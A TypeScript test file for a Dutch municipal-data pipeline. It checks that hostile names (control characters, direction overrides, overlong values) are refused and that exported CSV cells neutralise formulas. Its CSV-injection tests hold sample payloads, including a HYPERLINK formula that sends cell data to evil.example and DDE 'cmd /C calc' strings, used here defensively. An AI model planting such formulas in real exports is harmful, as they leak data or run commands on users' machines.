import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toDelimited } from '../../src/shared/delimited.ts';
import { duck, sqlString } from '../../src/pipeline/duckdb.ts';
import { buildData, pool, ROOT, type CliResult } from './helpers/cli.ts';

/**
 * Hostile names in the real formats, on a copy of the mini data folder (values made up by hand):
 * control characters, direction overrides and absurd lengths are refused with file, line (row) and
 * column in every container (CSV, JSON, Parquet); spreadsheet formulas get through as names, but every
 * CSV the warehouse writes shows them as text.
 */
const MINI = join(ROOT, 'tests/fixtures/mini');
const GEB21 = 'cbs-gebieden/cbs_gebieden_2021.csv';
const GEB22 = 'cbs-gebieden/cbs_gebieden_2022.json';
const IV3 = 'iv3/iv3_2023_jaarrekening.csv';
const REGIOS = '85099NED/RegioS.json';

/** 1-based line of the first line containing `needle` in a text file. */
const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;
/** 1-based row (as the readers count JSON rows) of the first object whose `key` contains `needle`. */
const rowOf = (rows: Record<string, unknown>[], key: string, needle: string) => rows.findIndex((r) => String(r[key]).includes(needle)) + 1;

interface Case {
  /** Edit the copy of the mini folder; returns the expected start of the message after "build-data: ". */
  edit: (dir: string) => Promise<string> | string;
  problem: string;
}

const replaceIn = (dir: string, file: string, from: string, to: string) => {
  const p = join(dir, file);
  const text = readFileSync(p, 'utf8');
  if (!text.includes(from)) throw new Error(`${file} has no ${from}`);
  writeFileSync(p, text.replace(from, to));
  return text;
};

const jsonCase = (file: string, key: string, needle: string, to: string) => (dir: string) => {
  const p = join(dir, file);
  const body = JSON.parse(readFileSync(p, 'utf8'));
  const row = rowOf(body.value, key, needle);
  body.value[row - 1][key] = to;
  writeFileSync(p, JSON.stringify(body, null, 1));
  return `${file}, line ${row}, column "${key}": `;
};

/** The 2022 Gebieden table as Parquet (as `npm run fetch` could deliver it), with one name replaced. */
async function parquetCase(dir: string, needle: string, to: string): Promise<string> {
  const p = join(dir, GEB22);
  const rows = JSON.parse(readFileSync(p, 'utf8')).value as Record<string, string | number | null>[];
  rmSync(p);
  const row = rowOf(rows, 'StringValue', needle);
  rows[row - 1].StringValue = to;
  const lit = (v: string | number | null) => (v === null ? 'NULL' : typeof v === 'number' ? String(v) : sqlString(v));
  const con = await duck();
  const values = rows.map((r) => `(${[r.Id, r.Measure, r.ValueAttribute, r.Value, r.StringValue, r.RegioS].map(lit).join(', ')})`).join(',\n');
  const out = join(dir, 'cbs-gebieden/cbs_gebieden_2022.parquet');
  await con.run(`COPY (SELECT * FROM (VALUES ${values}) t("Id", "Measure", "ValueAttribute", "Value", "StringValue", "RegioS")) TO ${sqlString(out)} (FORMAT parquet)`);
  return `cbs-gebieden/cbs_gebieden_2022.parquet, line ${row}, column "StringValue": `;
}

const CASES: Record<string, Case> = {
  'NUL in a gemeente name (JSON)': { edit: jsonCase(GEB22, 'StringValue', 'Alkmaar', 'Alk\u0000maar'), problem: 'a control character U+0000 at character 4' },
  'U+0001 in a gemeente name (CSV)': {
    edit: (d) => `${GEB21}, line ${lineOf(replaceIn(d, GEB21, 'Schagen ', 'Sch\u0001agen '), 'Schagen ')}, column "StringValue": `,
    problem: 'a control character U+0001 at character 4',
  },
  'C1 control U+0085 in a name (Parquet)': { edit: (d) => parquetCase(d, 'Alkmaar', 'Alkmaar\u0085'), problem: 'a control character U+0085 at character 8' },
  'right-to-left override in a name (Parquet)': { edit: (d) => parquetCase(d, 'Schagen', '\u202eSchagen'), problem: 'a text direction control U+202E at character 1' },
  'right-to-left override in a jeugdregio name (CSV)': {
    edit: (d) => `${GEB21}, line ${lineOf(replaceIn(d, GEB21, 'Kop van Noord-Holland', 'Kop van \u202ednalloH-droN'), 'Kop van Noord-Holland')}, column "StringValue": `,
    problem: 'a text direction control U+202E at character 9',
  },
  'isolate U+2066 in a dimension title (v3 JSON)': { edit: jsonCase(REGIOS, 'Title', 'Schagen', 'Schagen\u2066'), problem: 'a text direction control U+2066' },
  'BEL in an Iv3 gemeente name (semicolon CSV)': {
    edit: (d) => `${IV3}, line ${lineOf(replaceIn(d, IV3, 'Schagen;', 'Schagen\u0007;'), 'Schagen')}, column "Gemeenten": `,
    problem: 'a control character U+0007',
  },
  'a 10 000-character gemeente name': {
    edit: (d) => `${GEB21}, line ${lineOf(replaceIn(d, GEB21, 'Schagen ', `${'Schagen'.repeat(1429)}X `), 'Schagen')}, column "StringValue": `,
    problem: 'a name of 10004 characters',
  },
  'a line break inside a quoted name': {
    edit: (d) => `${GEB21}, line ${lineOf(replaceIn(d, GEB21, 'Schagen                                           ,', '"Scha\ngen",'), 'Scha')}, column "StringValue": `,
    problem: 'a line break or tab in the name',
  },
};

describe('hostile names: refused with file, line and column, in every container', () => {
  let tmp: string;
  const runs = new Map<string, { run: CliResult; at: string }>();

  beforeAll(async () => {
    tmp = mkdtempSync(join(tmpdir(), 'jib-hostile-'));
    const prepared: [string, string, string][] = [];
    for (const [name, c] of Object.entries(CASES)) {
      const dir = join(tmp, `case-${prepared.length}`);
      cpSync(MINI, dir, { recursive: true });
      prepared.push([name, dir, await c.edit(dir)]);
    }
    await pool(
      prepared.map(([name, dir, at]) => async () => runs.set(name, { run: await buildData(dir, join(dir, '..', `${name.length}-${Math.random()}`.replace('.', ''))), at })),
      3,
    );
  });
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it.each(Object.keys(CASES))('%s', (name) => {
    const { run, at } = runs.get(name)!;
    const msg = run.stderr.trim();
    expect(run.code, msg).toBe(1);
    expect(msg.split('\n'), msg).toHaveLength(1);
    expect(msg).not.toMatch(/failed:|\n\s+at /);
    expect(msg.startsWith(`build-data: ${at}`), `expected "build-data: ${at}…"\n  got: ${msg.slice(0, 300)}`).toBe(true);
    expect(msg).toContain(CASES[name].problem);
    // The message itself is safe to print: the character is named, not written.
    expect(msg).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(msg.length).toBeLessThan(600);
  });
});

describe('CSV injection: formulas in names are text in every CSV, numbers stay numbers', () => {
  const FORMULAS = {
    'Kop van Noord-Holland': '=HYPERLINK("https://evil.example/?"&A1,"Kop")',
    'Friesland (Fryslân)': '@SUM(1+1)*cmd|\' /C calc\'!A0',
    Heerhugowaard: '+31 Heerhugowaard',
    Langedijk: '-2+3+cmd|\' /C calc\'!A0',
  };
  let tmp: string;
  let run: CliResult;

  beforeAll(async () => {
    tmp = mkdtempSync(join(tmpdir(), 'jib-formula-'));
    const data = join(tmp, 'data');
    cpSync(MINI, data, { recursive: true });
    for (const [from, to] of Object.entries(FORMULAS)) {
      for (const f of [GEB21, GEB22]) {
        const p = join(data, f);
        const text = readFileSync(p, 'utf8');
        // Names are right-padded in both files; JSON needs its quotes escaped.
        const escaped = from.replace(/[()]/g, '\\$&');
        writeFileSync(p, f.endsWith('.json') ? text.replaceAll(from, JSON.stringify(to).slice(1, -1)) : text.replace(new RegExp(`${escaped} *`, 'g'), `"${to.replaceAll('"', '""')}"`));
      }
    }
    run = await buildData(data, join(tmp, 'out'));
  });
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it('builds, keeps the names as they are in Parquet and prefixes them with an apostrophe in both CSV dialects', async () => {
    expect(run.code, run.stderr).toBe(0);
    const con = await duck();
    const names = (await con.runAndReadAll(`SELECT name FROM read_parquet(${sqlString(join(tmp, 'out', 'geo.parquet'))})`)).getRowObjectsJS().map((r) => r.name);
    for (const to of Object.values(FORMULAS)) expect(names).toContain(to);
    for (const file of ['geo.csv', 'geo.excel-nl.csv']) {
      const text = readFileSync(join(tmp, 'out', file), 'utf8').replace(/^\ufeff/, '');
      const rows = Papa.parse<string[]>(text.trim(), { delimiter: file.includes('excel') ? ';' : ',' }).data;
      const cells = rows.flat();
      for (const to of Object.values(FORMULAS)) expect(cells, file).toContain(`'${to}`);
    }
  });

  it('no cell of any warehouse CSV starts with = + - @ tab or CR unless it is a number', () => {
    const out = join(tmp, 'out');
    let neutralised = 0;
    for (const file of readdirSync(out).filter((f) => f.endsWith('.csv'))) {
      const excel = file.endsWith('.excel-nl.csv');
      const text = readFileSync(join(out, file), 'utf8').replace(/^\ufeff/, '');
      for (const cell of Papa.parse<string[]>(text.trim(), { delimiter: excel ? ';' : ',' }).data.flat()) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, file).toMatch(excel ? /^-\d+(,\d+)?$/ : /^-\d+(\.\d+)?$/);
        if (cell.startsWith("'")) neutralised++;
      }
    }
    expect(neutralised).toBe(Object.keys(FORMULAS).length * 2);
  });
});

describe('toDelimited: the one CSV writer (warehouse, /csv/<chart>/<geo>.csv, SQL console export)', () => {
  const cols = [
    { name: 'name', type: 'string' as const },
    { name: 'euro', type: 'number' as const },
  ];
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    // A plain number that arrives as text cannot run: it stays as it is.
    ['-1234.5', '-1234.5'],
    ['@A1', "'@A1"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['Súdwest-Fryslân', 'Súdwest-Fryslân'],
    [' =1', '" =1"'],
  ])('text %j → %s in the international dialect', (name, cell) => {
    expect(toDelimited(cols, [{ name, euro: 1 }], 'international').split('\n')[1]).toBe(`${cell},1`);
  });
  it('leaves numbers alone, negative euros included, in both dialects', () => {
    expect(toDelimited(cols, [{ name: 'x', euro: -1234.5 }], 'international')).toBe('name,euro\nx,-1234.5\n');
    expect(toDelimited(cols, [{ name: 'x', euro: -1234.5 }], 'excel-nl')).toBe('\ufeffname;euro\r\nx;"-1234,5"\r\n');
    expect(toDelimited([{ name: 'n', type: 'integer' }], [{ n: -7 }], 'excel-nl')).toBe('\ufeffn\r\n-7\r\n');
  });
  it('prefixes formulas in the Dutch Excel dialect too', () => {
    expect(toDelimited(cols, [{ name: '=1+1', euro: null }], 'excel-nl')).toBe("\ufeffname;euro\r\n'=1+1;\r\n");
  });
});
